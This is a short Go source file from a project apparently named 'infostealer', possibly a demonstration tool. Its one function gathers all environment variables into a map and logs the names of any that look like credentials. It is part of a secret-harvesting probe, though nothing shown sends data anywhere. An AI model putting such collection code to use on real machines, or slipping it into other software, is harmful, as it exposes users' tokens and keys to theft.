package probe

import (
	"strings"

	"github.com/gzhole/infostealer/internal/logger"
	"github.com/gzhole/infostealer/internal/redact"
)

// CollectEnvironment snapshots environ ("KEY=value" entries) into a new map. The
// caller owns the map; nothing else keeps a reference to it.
func CollectEnvironment(environ []string, log *logger.Narrator) map[string]string {
	log.Info("Collecting environment variables...")

	env := make(map[string]string, len(environ))
	for _, kv := range environ {
		key, value, ok := strings.Cut(kv, "=")
		if !ok || key == "" {
			continue
		}
		env[key] = value
	}

	if names := redact.SensitiveNames(env); len(names) > 0 {
		log.Success("Credential-like variables present: %s", strings.Join(names, ", "))
	}
	return env
}
